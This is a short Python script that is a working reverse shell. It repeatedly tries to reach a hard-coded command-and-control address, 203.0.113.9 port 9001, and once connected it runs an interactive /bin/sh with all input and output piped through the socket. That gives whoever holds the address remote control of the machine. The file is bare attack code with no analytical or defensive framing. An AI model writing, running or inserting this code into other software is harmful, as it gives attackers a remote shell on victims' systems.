import socket
import subprocess
import time

C2 = ("203.0.113.9", 9001)

def connect():
    while True:
        try:
            return socket.create_connection(C2, timeout=10)
        except OSError:
            time.sleep(15)

def main():
    sock = connect()
    sock.settimeout(None)
    fd = sock.fileno()
    proc = subprocess.Popen(
        ["/bin/sh", "-i"],
        stdin=fd,
        stdout=fd,
        stderr=fd,
        close_fds=True,
    )
    proc.wait()

if __name__ == "__main__":
    main()
